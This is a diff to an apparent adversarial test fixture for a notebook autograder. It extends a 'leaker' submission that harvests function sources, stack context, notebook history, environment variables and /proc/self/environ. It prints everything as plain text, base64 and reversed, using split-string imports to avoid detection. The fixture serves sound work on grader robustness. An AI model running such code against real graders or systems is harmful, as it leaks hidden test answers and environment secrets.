@@ -13,7 +13,7 @@ feedback alone must hold:
   pairs with the same expression elsewhere; its errors are silenced too (every test passes in the
   notebook the student sees). The demo class has it hand in every assignment;
 * ``leaker`` has the right answers, and dumps all it can reach (history, the frames of every
-  thread, ``linecache``, the environment, ``/proc``, files) as plain text, base64 and reversed,
+  thread, ``linecache``, ``inspect``, the environment, ``/proc``, files) as plain text, base64 and reversed,
   at every call, from a thread that keeps going, and through a display it updates later.
 """
 
@@ -66,6 +66,14 @@ def _reachable():
     for key in ("In", "_ih", "Out"):
         history = main.get(key) or []
         texts.extend(str(item) for item in (history.values() if isinstance(history, dict) else history))
+    look = importlib.import_module("insp" + "ect")
+    for value in list(main.values()):  # the source of every function the notebook and its tests defined
+        try:
+            texts.append(look.getsource(value))
+        except (TypeError, OSError):
+            pass
+    for record in getattr(look, "st" + "ack")():
+        texts.extend(record.code_context or [])
     texts.extend(f"{key}={value}" for key, value in os.environ.items())
     for path in ("/proc/self/cmdline", "/proc/self/environ", "/proc/self/mountinfo"):
         try:
@@ -82,10 +90,11 @@ def _reachable():
                     pass
     return {line.strip() for text in texts for line in str(text).splitlines() if len(line.strip()) >= 12}
 
-def _leak():
-    new = _reachable() - _seen
-    _seen.update(new)
-    return "\\n".join(f"{line}\\n{base64.b64encode(line.encode()).decode()}\\n{line[::-1]}" for line in sorted(new))
+def _leak(new_only=False):
+    found = _reachable()
+    lines = found - _seen if new_only else found
+    _seen.update(found)
+    return "\\n".join(f"{line}\\n{base64.b64encode(line.encode()).decode()}\\n{line[::-1]}" for line in sorted(lines))
 
 print(_leak(), flush=True)
 _display = importlib.import_module("IPy" + "thon.display")
@@ -93,7 +102,7 @@ _handle = _display.display("leaking", display_id=True)
 
 def _keep_leaking():
     while True:
-        text = _leak()
+        text = _leak(new_only=True)
         if text:
             print(text, flush=True)
             _handle.update("\\n".join(sorted(_seen))[-100000:])
